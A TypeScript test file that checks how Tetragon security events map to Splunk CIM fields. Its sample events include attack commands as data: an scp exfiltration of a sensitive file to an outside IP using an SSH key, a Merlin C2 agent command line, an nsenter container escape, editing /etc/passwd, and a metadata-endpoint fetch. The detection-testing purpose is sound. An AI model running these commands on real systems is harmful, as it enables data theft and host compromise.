import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Event } from '../../src/events/event.js';
import { eventResult } from '../../src/normalize/event-result.js';
import { TETRAGON_CIM_FIELDS, isIsovalentSourcetype, tetragonCimField, tetragonView } from '../../src/normalize/tetragon.js';
import { toEvent } from '../../src/sources/tetragon.js';

const FIX = new URL('../fixtures/tetragon/', import.meta.url);
const lines = (name: string): string[] => readFileSync(new URL(name, FIX), 'utf8').split('\n').filter((l) => l !== '');
const upstream = lines('upstream-samples.jsonl');
const synthetic = lines('synthetic.jsonl');
const [exampleLine] = lines('splunk-example.jsonl') as [string];

function event(line: string): Event {
  const out = toEvent(line, { index: 'main', source: 'fixture', defaultHost: 'h', fallbackTime: () => 0 });
  if (!out.ok) throw new Error(out.reason);
  return out.event;
}

/** Every CIM field of the event; absent ones as null. */
function cim(line: string): Record<string, unknown> {
  const r = eventResult(event(line));
  return Object.fromEntries(TETRAGON_CIM_FIELDS.map((f) => [f, r.get(f)]));
}

/** An execution: no connection, no file; `os` and `vendor_product` are constants. */
const EXEC_ONLY = {
  action: 'allowed',
  file_path: null, file_name: null, file_acl: null, file_create_time: null, file_modify_time: null, file_access_time: null,
  src: null, src_ip: null, src_port: null, dest_ip: null, dest_port: null, transport: null, protocol: null, direction: null, dvc: null,
  os: 'Linux',
  vendor_product: 'Cisco Isovalent',
};

describe('CIM fields of cisco:isovalent events', () => {
  it('maps the Splunk example event', () => {
    expect(cim(exampleLine)).toEqual({
      process: '/app/grpc-health-probe -addr=:50051 -connect-timeout=5s -rpc-timeout=5s',
      process_name: 'grpc-health-probe',
      process_exec: 'grpc-health-probe',
      process_id: 3502914,
      process_path: '/app/grpc-health-probe',
      process_current_directory: '/app',
      process_guid: 'aXAtMTAtMC0xMC0yNTMudXMtd2VzdC0yLmNvbXB1dGUuaW50ZXJuYWw6MTQ2Mjg5OTk5MjQ2MDAwNDozNTAyOTE0',
      dest: 'ip-10-0-10-253.us-west-2.compute.internal',
      user: null,
      user_id: '0',
      parent_process:
        '/usr/sbin/runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/dc5b541d139c38ec01e485712f0eec3d11c0273ca03fccedc56881200c127873/log.json --log-format json --systemd-cgroup exec --process /tmp/runc-process2848112653 --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/dc5b541d139c38ec01e485712f0eec3d11c0273ca03fccedc56881200c127873/939f032732ee71076b86175deba715fc56e5cacb6047fb3602069bdbbfd21e45.pid dc5b541d139c38ec01e485712f0eec3d11c0273ca03fccedc56881200c127873',
      parent_process_name: 'runc',
      parent_process_exec: 'runc',
      parent_process_id: 3502900,
      parent_process_path: '/usr/sbin/runc',
      parent_process_guid: 'aXAtMTAtMC0xMC0yNTMudXMtd2VzdC0yLmNvbXB1dGUuaW50ZXJuYWw6MTQ2Mjg5OTk3MjA5OTEyODozNTAyOTAw',
      parent_user: null,
      pod_name: 'aws-node-9twpn',
      pod_namespace: 'kube-system',
      pod_image_name: '066635153087.dkr.ecr.il-central-1.amazonaws.com/amazon-k8s-cni:v1.19.2',
      container_id: 'containerd://dc5b541d139c38ec01e485712f0eec3d11c0273ca03fccedc56881200c127873',
      cluster_name: 'isovalent-2',
      node_name: 'ip-10-0-10-253.us-west-2.compute.internal',
      ...EXEC_ONLY,
    });
  });

  it('maps the nsenter sample (parent without arguments, docker:// container, no cluster_name)', () => {
    expect(cim(upstream[8] as string)).toEqual({
      process: '/usr/bin/nsenter -t 1 -m -u -n -i -p bash',
      process_name: 'nsenter',
      process_exec: 'nsenter',
      process_id: 19009,
      process_path: '/usr/bin/nsenter',
      process_guid: 'bWluaWt1YmU6MTQzNTQzNTYzNTQyMzoxOTAwOQ==',
      process_current_directory: '/',
      dest: 'minikube',
      user: null,
      user_id: '0',
      parent_process: '/bin/bash',
      parent_process_name: 'bash',
      parent_process_exec: 'bash',
      parent_process_id: 17022,
      parent_process_path: '/bin/bash',
      parent_process_guid: 'bWluaWt1YmU6MTIzNjkyODQ2NzQ4NToxNzAyMg==',
      parent_user: null,
      pod_name: 'privileged-pod',
      pod_namespace: 'default',
      pod_image_name: 'nginx:latest',
      container_id: 'docker://85f791fd8dfa740a3b1c177e8f68e8fdb4803a7c8fa0e957a5ec38460ce047ef',
      cluster_name: null,
      node_name: 'minikube',
      ...EXEC_ONLY,
    });
  });

  it('maps the merlin sample: quoted arguments verbatim, host process without pod', () => {
    expect(cim(upstream[10] as string)).toEqual({
      process: '/bin/sh -c "scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~"',
      process_name: 'sh',
      process_exec: 'sh',
      process_id: 53766,
      process_path: '/bin/sh',
      process_current_directory: '/opt/merlin-agent/',
      process_guid: 'bWluaWt1YmU6NDczMzc5NTU0Mzc1Njo1Mzc2Ng==',
      dest: 'minikube',
      user: null,
      user_id: '0',
      parent_process: '/tmp/go-build3514866200/b001/exe/main -v -url https://main.linux-libs.org:443 -proto h2 -psk SecurePSK!23@456',
      parent_process_name: 'main',
      parent_process_exec: 'main',
      parent_process_id: 41030,
      parent_process_path: '/tmp/go-build3514866200/b001/exe/main',
      parent_process_guid: 'bWluaWt1YmU6MjA4MjU3MzM4MjgwMToyNTc0NA==',
      parent_user: null,
      pod_name: null,
      pod_namespace: null,
      pod_image_name: null,
      container_id: null,
      cluster_name: null,
      node_name: 'minikube',
      ...EXEC_ONLY,
    });
  });

  it("keeps Tetragon's leading-space quirk in process", () => {
    const r = eventResult(event(synthetic[3] as string));
    expect(r.get('process')).toBe('/bin/sh  "echo hi" -x');
    expect(r.get('parent_process')).toBe('/usr/bin/containerd-shim-runc-v2');
    expect(r.get('parent_process_id')).toBe(6999);
    expect(r.get('pod_image_name')).toBe('docker.io/library/busybox:1.36');
  });

  it('maps process_exit and process_kprobe from their own top-level key', () => {
    const exit = eventResult(event(upstream[12] as string));
    expect([exit.get('sourcetype'), exit.get('process_name'), exit.get('parent_process'), exit.get('pod_name')]).toEqual([
      'cisco:isovalent', 'nc', '/usr/bin/sh lifecycle.sh', 'elasticsearch-56f8fc6988-65smb',
    ]);
    const kprobe = eventResult(event(upstream[13] as string));
    expect([kprobe.get('process'), kprobe.get('parent_process_name'), kprobe.get('pod_namespace'), kprobe.get('node_name')]).toEqual([
      '/usr/bin/vi /etc/passwd', 'bash', 'tenant-jobs', 'gke-kprobe-validation-default-pool-b5e9dab6-k0cj',
    ]);
    expect(kprobe.get('process_kprobe.function_name')).toBe('__x64_sys_write');
    // A tcp_connect kprobe is a connection: its sock_arg gives the network fields.
    const connect = eventResult(event(synthetic[4] as string));
    expect(['dest', 'dest_ip', 'dest_port', 'src_ip', 'transport'].map((f) => connect.get(f))).toEqual(['1.2.3.4', '1.2.3.4', 443, '10.0.0.5', 'tcp']);
  });

  it('maps process_connect in the Isovalent flat shape, the sock_arg-like shape and a nested socket', () => {
    const net = (l: string): unknown[] => {
      const r = eventResult(event(l));
      return ['src_ip', 'src_port', 'dest_ip', 'dest_port', 'transport', 'protocol', 'process_name', 'pod_name'].map((f) => r.get(f));
    };
    expect(net(synthetic[0] as string)).toEqual(['10.0.0.164', 49998, '169.254.169.254', 80, 'tcp', 'ip', 'curl', 'crawler-556db57cd7-tkvfd']);
    expect(net(synthetic[1] as string)).toEqual(['192.168.1.20', 51234, '203.0.113.7', 8080, 'tcp', 'ip', 'wget', null]);
    expect(net(synthetic[2] as string)).toEqual(['10.0.0.111', 18083, '10.0.0.33', 53, 'udp', 'ip', 'node', null]);
    // Tetragon's own protocol text stays reachable as its JSON path.
    expect(eventResult(event(synthetic[1] as string)).get('process_connect.protocol')).toBe('IPPROTO_TCP');
    const r = eventResult(event(synthetic[0] as string));
    expect(r.get('parent_process')).toBe('/bin/sh -c ./fetch.sh');
    expect(r.get('process_connect.parent.binary')).toBe('/bin/sh');
    expect(r.get('cluster_name')).toBe('synthetic-1');
  });

  it('parent_process_name is the parent only, not the ancestors', () => {
    const r = eventResult(event(exampleLine));
    expect(r.get('parent_process_name')).toBe('runc');
    expect(r.get('process_exec.ancestors{}.binary')).toEqual(['/usr/bin/containerd-shim-runc-v2', '/usr/lib/systemd/systemd']);
  });
});

describe('tetragon helpers', () => {
  it('says undefined for names that are not CIM fields', () => {
    const view = tetragonView(JSON.parse(exampleLine), 0);
    expect(view).not.toBeNull();
    if (view === null) return;
    expect(tetragonCimField(view, 'process_exec.process.binary')).toBeUndefined();
    expect(tetragonCimField(view, 'pod_labels')).toBeUndefined();
    expect(tetragonCimField(view, 'user')).toBeNull();
    expect(tetragonCimField(view, 'process_name')).toBe('grpc-health-probe');
  });

  it('recognises isovalent sourcetypes case-insensitively', () => {
    expect(isIsovalentSourcetype('cisco:isovalent')).toBe(true);
    expect(isIsovalentSourcetype('cisco:isovalent:processExec')).toBe(true);
    expect(isIsovalentSourcetype('Cisco:Isovalent:ProcessExec')).toBe(true);
    expect(isIsovalentSourcetype('cisco:isoval')).toBe(false);
    expect(isIsovalentSourcetype('_json')).toBe(false);
  });
});
